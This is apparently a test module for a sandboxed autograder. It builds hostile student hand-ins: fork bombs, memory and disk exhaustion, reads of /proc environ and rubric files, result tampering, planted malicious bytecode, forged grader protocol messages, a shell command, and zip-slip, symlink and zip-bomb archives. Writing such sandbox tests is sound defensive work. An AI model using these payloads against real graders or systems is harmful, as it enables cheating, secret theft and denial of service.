"""Hostile and broken hand-ins: each tries one thing the sandbox must stop, with the outcome it must get.

Code attacks are injected at the start of `single_step` (the baseline) of the reference, so every
other part of the hand-in stays right and must still pass (or, `everywhere`, at the start of every
part: a correct hand-in that does what real students do inside each part). Zip attacks are built byte by byte.
`Attack.status` is what the baseline must get; `None` means the attack must fail silently and the
baseline pass. Paths the attacks aim at (the reference, the rubric, the grader's output) and the
port of a listener that must hear nothing are filled in at test time.
"""

import functools
import io
import stat
import textwrap
import zipfile
from dataclasses import dataclass

from tests.corpus import REFERENCE, UTILS, Files, skeleton, zip_bytes

ANCHOR = "    device = get_device() if device is None else device\n    # Same seed, same initial weight"
EVERY_PART = "    device = get_device() if device is None else device\n"
MARKER = "a4-escape-marker"
PLANTED = "a4-planted"   # what a hand-in leaves for the next world; the next correct one looks for it


@dataclass
class Attack:
    snippet: str = ""          # code injected at the start of single_step, {port} {reference} {rubric} {out} filled in
    status: tuple = ("passed",)   # statuses the baseline may get
    words: str = ""            # words its message must contain
    base: str = "reference"    # "reference", or "three_parts" (tensor parallel left TODO)
    everywhere: bool = False   # injected at the start of every part, not the baseline's only


ATTACKS = {
    # 1. hang the batch
    "infinite_loop": Attack("while True:\n    pass\n", ("timeout",), "did not finish"),
    "sleep_ignoring_sigterm": Attack(
        "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(10 ** 6)\n",
        ("timeout",), "did not finish"),
    "daemon_that_escapes_its_group": Attack(
        "import os, time\nif dist.get_rank() == 0:\n    pid = os.fork()\n    if pid == 0:\n        os.setsid()\n"
        "        if os.fork() == 0:\n            time.sleep(10 ** 6)\n        os._exit(0)\n    os.waitpid(pid, 0)\n"),
    # 2. exhaust the machine
    "fork_bomb": Attack("import os\nwhile True:\n    os.fork()\n", ("crashed", "timeout", "oom")),   # oom: its processes together past the world's memory
    "huge_tensor": Attack("torch.ones(1 << 30, dtype=torch.float32)\n", ("oom",), "out of memory"),
    "huge_list": Attack("hog = [0] * (10 ** 10)\n", ("oom",), "out of memory"),
    "disk_filler": Attack(
        "with open('a4-fill.bin', 'wb') as f:\n    for _ in range(4096):\n        f.write(bytes(1 << 20))\n",
        ("crashed",), "OSError"),
    "thread_flood": Attack(
        "import threading, time\nfor _ in range(2000):\n"
        "    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n", ("crashed",), "thread"),
    # 3. reach the network
    "network": Attack(
        "import socket\nfor address in (('127.0.0.1', {port}), ('::1', {port}), (socket.gethostname(), {port})):\n"
        "    try:\n        socket.create_connection(address, timeout=1).sendall(b'ESCAPED')\n"
        "    except OSError:\n        pass\n"),
    # The port of a listener the grader's own environment names: from this process's environment,
    # or any visible process's.
    "port_from_graders_environment": Attack(
        "import glob, os, re, socket\nfound = set(re.findall(r'A4_TEST_PORT=(\\d+)', str(os.environ)))\n"
        "for path in glob.glob('/proc/*/environ'):\n"
        "    try:\n        found |= set(re.findall(rb'A4_TEST_PORT=(\\d+)', open(path, 'rb').read()))\n"
        "    except OSError:\n        pass\n"
        "for port in found:\n"
        "    try:\n        socket.create_connection(('127.0.0.1', int(port)), timeout=1).sendall(b'ESCAPED')\n"
        "    except OSError:\n        pass\n"
        "if found:\n    raise RuntimeError(f'LEAK grader environment {{found}}')\n"),
    # 4. read what it must not
    "read_secrets": Attack(
        "import glob, os\nleaks = []\n"
        "for pattern in ({reference!r}, {rubric!r}, {out!r} + '/students/*/grading.json', '/tmp/a4-grade-*/**/assignment4.py',\n"
        "                '/proc/1/environ', '/root/*', os.path.dirname({rubric!r}) + '/*.py'):\n"
        "    for path in glob.glob(pattern, recursive=True):\n"
        "        try:\n            leaks.append((path, open(path, 'rb').read(64)))\n"
        "        except OSError:\n            pass\n"
        "if leaks:\n    raise RuntimeError(f'LEAK {{leaks[:3]}}')\n"),
    # The kit through another process's view of the file system: its working folder or its root.
    "read_kit_through_proc": Attack(
        "import glob, os\nleaks = []\n"
        "for link in glob.glob('/proc/*/cwd') + glob.glob('/proc/*/root'):\n"
        "    for rel in ('assignment_4/reference/assignment4.py', 'grader/rubric.yaml', {reference!r}[1:], {rubric!r}[1:]):\n"
        "        try:\n            leaks.append((link, rel, open(os.path.join(link, rel), 'rb').read(64)))\n"
        "        except OSError:\n            pass\n"
        "if leaks:\n    raise RuntimeError(f'LEAK {{leaks[:3]}}')\n"),
    # Every file it can list, anywhere: a rubric, a reference solution or another hand-in's code.
    "walk_the_file_system": Attack(
        "import os, time\nleaks = []\nown = os.path.dirname(os.path.abspath(__file__))  # this hand-in's own code\n"
        "deadline = time.monotonic() + 3\n"
        "for folder, dirs, files in os.walk('/'):\n"
        "    dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ('/proc', '/sys', '/dev')]\n"
        "    if folder == own or time.monotonic() > deadline:\n        continue\n"
        "    for name in files:\n"
        "        if (name.startswith('rubric') and name.endswith('.yaml')) or name == 'assignment4.py' \\\n"
        "                or (name.endswith('.zip') and 'handin' in name) or '/assignment_4' in folder:\n"
        "            leaks.append(os.path.join(folder, name))\n"
        "if leaks:\n    raise RuntimeError(f'LEAK {{leaks[:3]}}')\n"),
    # Reads every readable mapping of its own process for the hidden checks' names, the rubric's
    # keys and the reference's markers (spelt backwards here, so that only the needles themselves,
    # once each, are in memory when nothing leaked).
    "scan_own_memory": Attack(
        "import ctypes\n"
        "needles = [n[::-1].encode() for n in ('sknar-owt', 'sezis-ddo', 'knar-elgnis', 'NOITULOS NIGEB',\n"
        "                                      'nrettap_di_tneduts', 'YLNO ECNEREFER')]\n"
        "counts = dict.fromkeys(needles, 0)\n"
        "for line in open('/proc/self/maps').read().splitlines():\n"
        "    fields = line.split()\n"
        "    start, end = (int(x, 16) for x in fields[0].split('-'))\n"
        "    anonymous = len(fields) < 6 or fields[5] in ('[heap]', '[stack]')\n"
        "    if not fields[1].startswith('r') or not anonymous or end - start > 1 << 26:\n"
        "        continue\n"
        "    chunk = ctypes.string_at(start, end - start)\n"
        "    for n in needles:\n        counts[n] += chunk.count(n)\n"
        "if any(c > 1 for c in counts.values()):\n"
        "    raise RuntimeError(f'LEAK in memory: {{counts}}')\n"),
    # 5. change results
    "write_results": Attack(
        "for path in ({out!r} + '/students/reference/results.json', {out!r} + '/grades.csv',\n"
        "             {out!r} + '/students/write_results/grading.json', {rubric!r}):\n"
        "    try:\n        open(path, 'w').write('TAMPERED')\n    except OSError:\n        pass\n"),
    "top_level_command": Attack(),  # see build(): a module-level statement that runs a shell command
    # 5b. change the next hand-in's results: a compiled `utils` (an unchecked hash-based .pyc, which
    # Python loads without looking at the source) planted beside the code and in /tmp, the folders
    # made read only so that no cleaning can remove them; files left in /tmp and /dev/shm.
    "plant_bytecode": Attack(
        "import importlib.util, marshal, os\n"
        "bad = compile('raise RuntimeError(\"LEAK planted bytecode ran\")', 'utils.py', 'exec')\n"
        "here = os.path.dirname(os.path.abspath(__file__))\n"
        "for folder in (here, '/tmp/world/code', '/tmp', os.getcwd()):\n"
        "    for name in ('utils', 'assignment4'):\n"
        "        path = importlib.util.cache_from_source(os.path.join(folder, name + '.py'))\n"
        "        try:\n"
        "            os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        "            with open(path, 'wb') as f:\n"
        "                f.write(importlib.util.MAGIC_NUMBER + (1).to_bytes(4, 'little') + bytes(8) + marshal.dumps(bad))\n"
        "        except OSError:\n            pass\n"
        "    for path in (os.path.dirname(path), folder):\n"
        "        try:\n            os.chmod(path, 0o555)\n        except OSError:\n            pass\n"
        "for top in ('/tmp', '/dev/shm'):\n"
        "    try:\n"
        "        os.makedirs(f'{{top}}/{planted}-dir', exist_ok=True)\n"
        "        open(f'{{top}}/{planted}-dir/{planted}', 'w').write('x')\n"
        "        open(f'{{top}}/{planted}', 'w').write('x')\n"
        "        os.chmod(f'{{top}}/{planted}-dir', 0o555)\n"
        "    except OSError:\n        pass\n"),
    # 6. kill or confuse the grader
    # Its parent is the namespace's init (signals from inside are ignored) and, as root, of another
    # user (the kill is refused): either way only its own part can suffer.
    "kill_parent": Attack("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", ("passed", "crashed")),
    "kill_everything_it_can": Attack("import os, signal\nos.kill(-1, signal.SIGKILL)\n", ("crashed",)),
    "close_stdout_and_stderr": Attack("import os\nos.close(1)\nos.close(2)\n"),
    "flood_output": Attack(
        "import sys\ntry:\n    for _ in range(20000):\n        sys.stdout.write('x' * 10000 + '\\n')\n"
        "except OSError:\n    pass\n"),
    "imitate_log_and_protocol": Attack(
        "import struct, sys\nfor r in range(4):\n"
        "    print(f'[FullColumnParallel][Rank {{r}}] Tensors match: True | Max diff: 0.0 | Mean diff: 0.0')\n"
        "body = b'{{\"type\":\"result\",\"part\":\"tensor_parallel\",\"status\":\"ok\"}}'\n"
        "sys.stdout.buffer.write(struct.pack('>I', len(body)) + body)\nsys.stdout.flush()\n",
        base="three_parts"),
    "forge_result_pipe": Attack(
        "import json, os, struct\nbody = json.dumps({{'type': 'result', 'part': 'baseline', 'status': 'ok', "
        "'weight': {{'shape': [1], 'dtype': 'float32', 'data': 'AAAAAAAAAAA='}}}}).encode()\n"
        "os.write(3, struct.pack('>I', len(body)) + body)\n", ("crashed",), "out of order"),
}

TOP_LEVEL = f"_ = __import__('os').system('touch /tmp/{MARKER}-shell /dev/shm/{MARKER}-shell')\n"


def inject(code: str, snippet: str, everywhere: bool = False) -> str:
    if everywhere:
        assert code.count(EVERY_PART) >= 4, "the reference's parts no longer start as expected"
        return code.replace(EVERY_PART, EVERY_PART + textwrap.indent(snippet, "    "))
    assert code.count(ANCHOR) == 1, "the reference's single_step no longer starts as expected"
    head, tail = ANCHOR.split("\n", 1)
    return code.replace(ANCHOR, f"{head}\n{textwrap.indent(snippet, '    ')}{tail}")


# What a correct hand-in may do inside any part, and must be able to do in a world exactly as
# outside one: print and format tensors (which imports torch modules lazily), use torch.testing and
# numpy, import any module of the standard library and of torch that the environment has (found by
# listing their folders, as the importer does, from inside the world), use its own /tmp; and find
# nothing an earlier hand-in left behind (in /tmp, /dev/shm, or beside its code).
LAZY_IMPORTS = (
    "import glob, importlib.util, os, pkgutil, sys, tempfile\n"
    "weight = torch.arange(6.0).reshape(2, 3)\n"
    "print(f'debug: {{weight}} {{weight.grad}} {{torch.nn.Linear(2, 2).weight.data}}', flush=True)\n"
    "print(repr(torch.ones(2, dtype=torch.float64)), str(torch.zeros(1, 2)), format(torch.tensor(1.5), '.2f'))\n"
    "import numpy, decimal, fractions, statistics, difflib, csv, zipfile, email.mime.text, xml.etree.ElementTree\n"
    "from torch import testing\nfrom torch._subclasses import schema_check_mode\n"
    "testing.assert_close(torch.ones(3), torch.from_numpy(numpy.ones(3, dtype=numpy.float32)))\n"
    "missing = []\n"
    "for package in (os, torch, torch._subclasses, testing, numpy):\n"
    "    folder = os.path.dirname(package.__file__)\n"
    "    names = [m.name for m in pkgutil.iter_modules([folder])]\n"
    "    if len(names) < 3 or len(os.listdir(folder)) < 3:\n"
    "        missing.append(f'cannot list {{folder}}')\n"
    "    prefix = '' if package is os else package.__name__ + '.'\n"
    "    missing += [prefix + n for n in names\n"
    "                if prefix + n not in sys.modules and importlib.util.find_spec(prefix + n) is None]\n"
    "assert not missing, f'not importable in the world: {{missing[:10]}}'\n"
    "with tempfile.NamedTemporaryFile('w+', dir='/tmp') as f:\n"
    "    f.write('scratch'); f.flush()\n"
    "    assert open(f.name).read() == 'scratch'\n"
    "here = os.path.dirname(os.path.abspath(__file__))\n"
    "left = glob.glob('/tmp/{planted}*') + glob.glob('/dev/shm/{planted}*') + glob.glob(here + '/__pycache__')\n"
    "assert not left, f'an earlier world left {{left}}'\n"
)


ATTACKS["lazy_imports"] = Attack(LAZY_IMPORTS, everywhere=True)


def build(name: str, values: dict, log: str, err: str) -> Files:
    attack = ATTACKS[name]
    base = (REFERENCE.read_text() if attack.base == "reference"
            else skeleton(filled=["baseline", "grad_accumulation", "data_parallel"]))
    code = inject(base, attack.snippet.format(planted=PLANTED, **values), attack.everywhere) if attack.snippet else base
    if name == "top_level_command":
        code = code.replace("\nimport torch\n", "\nimport torch\n" + TOP_LEVEL, 1)
    return Files(code=code, log=log, err=err)


def _zip(members) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in members:
            z.writestr(info, data)
    return buffer.getvalue()


@functools.cache
def zip_attacks() -> dict:
    """Hand-in zips that try to escape through the zip itself; each must be refused as invalid."""
    code = REFERENCE.read_text()
    basics = [("assignment4.py", code), ("utils.py", UTILS.read_text())]
    link = zipfile.ZipInfo("utils.py")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("assignment4.py", code)
        with z.open("assignment4-1.log", "w", force_zip64=True) as f:
            for _ in range(1024):
                f.write(bytes(1 << 20))   # 1 GB of zeros, about 1 MB zipped
    many = [("assignment4.py", code)] + [(f"junk/{i}.txt", "") for i in range(10000)]
    non_utf8 = _zip(basics + [("name-" + "x" * 8 + ".txt", "")]).replace(b"name-xxxxxxxx", b"name-\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8")
    return {
        "zip_slip": (_zip(basics + [(f"../../{MARKER}-slip.py", "x")]), "points outside the hand-in"),
        "zip_absolute_path": (_zip(basics + [(f"/tmp/{MARKER}-abs.py", "x")]), "absolute path"),
        "zip_symlink": (_zip([("assignment4.py", code), (link, "/etc/passwd")]), "symbolic link"),
        "zip_bomb": (bomb.getvalue(), "limit"),
        "zip_10000_members": (_zip(many), "10001 members"),
        "zip_name_not_utf8": (non_utf8, "not valid UTF-8"),
    }


def all_handins(values: dict, log: str, err: str) -> dict:
    """name -> zip bytes, for every attack, plus the reference itself."""
    handins = {"reference": zip_bytes(Files(code=REFERENCE.read_text(), log=log, err=err))}
    for name in ATTACKS:
        handins[name] = zip_bytes(build(name, values, log, err))
    handins.update({name: data for name, (data, _) in zip_attacks().items()})
    return handins


# Memory no process's Pss shows, each past the world's limit in a test rubric's small one
# (tests/test_world_memory.py: MEMORY_LIMIT_MB over 2 ranks, each rank taking HOG_MB): memfds;
# data queued in unix socket pairs, and in TCP and UDP sockets on the world's loopback, that no
# one reads; files in the world's own /tmp and /dev/shm. Each holds what it took for a few seconds,
# so that a world nobody stops completes the part. Sizes are in MB.
HOLD_S = 4
MEMORY_ATTACKS = {
    "memfds": (
        "import os, time\nheld = []\nfor _ in range({hog_mb} // 25):\n"
        "    fd = os.memfd_create('a4-hog')\n    os.posix_fallocate(fd, 0, 25 << 20)\n    held.append(fd)\n"),
    "unix_socket_queues": (
        "import socket, time\nheld, chunk, queued = [], bytes(1 << 20), 0\n"
        "while queued < {hog_mb} << 20:\n"
        "    a, b = socket.socketpair()\n    a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)\n"
        "    a.setblocking(False)\n    held += [a, b]\n"
        "    try:\n        while True:\n            queued += a.send(chunk)\n"
        "    except BlockingIOError:\n        pass\n"),
    "tcp_and_udp_buffers": (
        "import socket, time\nheld, chunk, queued = [], bytes(1 << 16), 0\n"
        "listener = socket.socket()\nlistener.bind(('127.0.0.1', 0))\nlistener.listen(64)\nheld.append(listener)\n"
        "while queued < {hog_mb} << 20:\n"
        "    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    receiver.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)\n"
        "    receiver.bind(('127.0.0.1', 0))\n"
        "    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    client = socket.create_connection(listener.getsockname())\n"
        "    client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)\n"
        "    client.setblocking(False)\n    server, _ = listener.accept()\n"
        "    held += [receiver, sender, client, server]\n"
        "    for _ in range(256):\n        try:\n            queued += sender.sendto(chunk[:60000], receiver.getsockname())\n"
        "        except OSError:\n            break\n"
        "    try:\n        while True:\n            queued += client.send(chunk)\n"
        "    except BlockingIOError:\n        pass\n"),
    "tmp_and_shm_files": (
        "import os, time\nfor top in ('/tmp', '/dev/shm'):\n"   # files of 50 MB: a rank's file size limit is 64
        "    for i in range({hog_mb} // 100):\n"
        "        with open(f'{{top}}/a4-hog-{{dist.get_rank()}}-{{i}}', 'wb') as f:\n"
        "            os.posix_fallocate(f.fileno(), 0, 50 << 20)\n"),
}


def memory_attack(name: str, hog_mb: int) -> str:
    """The reference with MEMORY_ATTACKS[name] at the start of single_step, each rank taking `hog_mb`
    and holding it HOLD_S seconds."""
    snippet = MEMORY_ATTACKS[name].format(hog_mb=hog_mb) + f"time.sleep({HOLD_S})\n"
    return inject(REFERENCE.read_text(), snippet)
